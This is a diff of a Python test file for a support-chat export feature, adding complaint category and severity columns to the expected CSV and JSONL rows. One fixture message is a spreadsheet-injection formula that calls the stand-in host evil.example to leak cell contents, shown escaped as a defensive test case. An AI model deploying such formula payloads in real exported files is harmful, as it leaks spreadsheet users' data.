@@ -57,25 +57,28 @@ def test_messages_csv_holds_every_message_row_by_row(seed: Seed, admin_client: C
     assert rows(body(download(admin_client, "messages.csv"))) == [
         list(MESSAGE_CSV_COLUMNS),
         [*RET, str(m["r1"].pk), "1", "customer", "", "2026-03-01T10:00:01+00:00",
-         "Hi, how do I return shoes? Mail me at jane@example.com", *none9, "0.1", "neutral"],
+         "Hi, how do I return shoes? Mail me at jane@example.com", *none9, "0.1", "neutral", "", ""],
         [*RET, str(m["r2"].pk), "2", "bot", "", "2026-03-01T10:00:02+00:00", "Send them back within 30 days.",
-         "faq", "0.82", "answer", "FAQ match 0.82 >= 0.45", "7", "retrieval:minilm", "120", "340", "up", "", ""],
+         "faq", "0.82", "answer", "FAQ match 0.82 >= 0.45", "7", "retrieval:minilm", "120", "340", "up", "", "",
+         "", ""],
         [*RET, str(m["r3"].pk), "3", "customer", "", "2026-03-01T10:04:00+00:00",
-         """'=HYPERLINK("http://evil.example/?x="&A1,"help")""", *none9, "-0.4", "negative"],
+         """'=HYPERLINK("http://evil.example/?x="&A1,"help")""", *none9, "-0.4", "negative", "other", "low"],
         [*RET, str(m["r4"].pk), "4", "bot", "", "2026-03-01T10:05:00+00:00", "I'll get a person to help you.",
-         "human", "0.91", "handoff", "customer asked for a person", "", "retrieval:minilm", "80", "95", "", "", ""],
+         "human", "0.91", "handoff", "customer asked for a person", "", "retrieval:minilm", "80", "95", "", "", "",
+         "", ""],
         [*RET, str(m["r5"].pk), "5", "system", "", "2026-03-01T10:06:00+00:00", "Olivia joined the chat.",
-         *none9, "", ""],
+         *none9, "", "", "", ""],
         [*RET, str(m["r6"].pk), "6", "operator", "Olivia", "2026-03-01T10:07:00+00:00",
-         "'+44 20 7946 0958 is our returns line, or pay with 4111 1111 1111 1111", *none9, "", ""],
+         "'+44 20 7946 0958 is our returns line, or pay with 4111 1111 1111 1111", *none9, "", "", "", ""],
         [*ORD, str(m["o1"].pk), "1", "customer", "", "2026-03-03T09:00:01+00:00",
-         "Where is order LL-2024-000123? Call (555) 123-4567", *none9, "", ""],
+         "Where is order LL-2024-000123? Call (555) 123-4567", *none9, "", "", "", ""],
         [*ORD, str(m["o2"].pk), "2", "bot", "", "2026-03-03T09:00:02+00:00", "Which one do you mean?",
-         "order_status", "0.55", "clarify", "two close matches", "3;4", "retrieval:minilm", "50", "60", "", "", ""],
+         "order_status", "0.55", "clarify", "two close matches", "3;4", "retrieval:minilm", "50", "60", "", "", "",
+         "", ""],
         [*REF, str(m["f1"].pk), "1", "customer", "", "2026-03-02T12:00:01+00:00", "'@everyone I want a refund",
-         *none9, "-0.7", "negative"],
+         *none9, "-0.7", "negative", "refund", "medium"],
         [*REF, str(m["f2"].pk), "2", "bot", "", "2026-03-02T12:00:02+00:00", "Let me find someone.",
-         "refund", "0.7", "handoff", "oos p=0.82", "", "retrieval:minilm", "", "", "", "", ""],
+         "refund", "0.7", "handoff", "oos p=0.82", "", "retrieval:minilm", "", "", "", "", "", "", ""],
     ]  # fmt: skip
 
 
@@ -85,13 +88,25 @@ def test_conversations_csv_holds_a_row_per_conversation(seed: Seed, admin_client
         list(CONVERSATION_CSV_COLUMNS),
         [str(r.pk), "shop", str(seed.jane.public_id), "closed", "2026-03-01T10:00:00+00:00",
          "2026-03-01T10:30:00+00:00", "6", "2026-03-01T10:05:00+00:00", "2026-03-01T10:07:00+00:00", "Olivia",
-         "5", "0.6", "positive", "https://shop.example.com/returns?email=jane@example.com",
+         "5", "0.6", "positive", "other", "low", "https://shop.example.com/returns?email=jane@example.com",
          "Hi, how do I return shoes? Mail me at jane@example.com"],
         [str(o.pk), "shop", str(seed.sam.public_id), "bot", "2026-03-03T09:00:00+00:00", "", "2", "", "", "",
-         "", "", "", "", "Where is order LL-2024-000123? Call (555) 123-4567"],
+         "", "", "", "", "", "", "Where is order LL-2024-000123? Call (555) 123-4567"],
         [str(f.pk), "other", str(seed.omar.public_id), "waiting_human", "2026-03-02T12:00:00+00:00", "", "2", "",
-         "", "", "", "-0.7", "negative", "", "'@everyone I want a refund"],
+         "", "", "", "-0.7", "negative", "refund", "medium", "", "'@everyone I want a refund"],
     ]  # fmt: skip
+
+
+def test_both_csv_exports_carry_the_complaint_category_and_severity_after_the_sentiment() -> None:
+    assert MESSAGE_CSV_COLUMNS[-4:] == ("sentiment", "sentiment_label", "complaint_category", "complaint_severity")
+    assert CONVERSATION_CSV_COLUMNS[-6:] == (
+        "sentiment",
+        "sentiment_label",
+        "complaint_category",
+        "complaint_severity",
+        "page_url",
+        "first_customer_message",
+    )
 
 
 def test_an_assignee_without_a_display_name_is_shown_by_full_name_then_username(
@@ -134,6 +149,8 @@ def test_messages_jsonl_has_every_message_with_the_bots_decisions(seed: Seed, ad
             "feedback": None,
             "sentiment": None,
             "sentiment_label": None,
+            "complaint_category": None,
+            "complaint_severity": None,
         }
         assert set(fields) <= set(base)
         return {**base, **fields}
@@ -155,7 +172,14 @@ def test_messages_jsonl_has_every_message_with_the_bots_decisions(seed: Seed, ad
             timings={"first_token": 120, "total": 340},
             feedback="up",
         ),
-        record(m["r3"], *returns, sentiment=-0.4, sentiment_label="negative"),
+        record(
+            m["r3"],
+            *returns,
+            sentiment=-0.4,
+            sentiment_label="negative",
+            complaint_category="other",
+            complaint_severity="low",
+        ),
         record(
             m["r4"],
             *returns,
@@ -183,7 +207,14 @@ def test_messages_jsonl_has_every_message_with_the_bots_decisions(seed: Seed, ad
             model_version="retrieval:minilm",
             timings={"first_token": 50, "total": 60},
         ),
-        record(m["f1"], *refund, sentiment=-0.7, sentiment_label="negative"),
+        record(
+            m["f1"],
+            *refund,
+            sentiment=-0.7,
+            sentiment_label="negative",
+            complaint_category="refund",
+            complaint_severity="medium",
+        ),
         record(
             m["f2"],
             *refund,
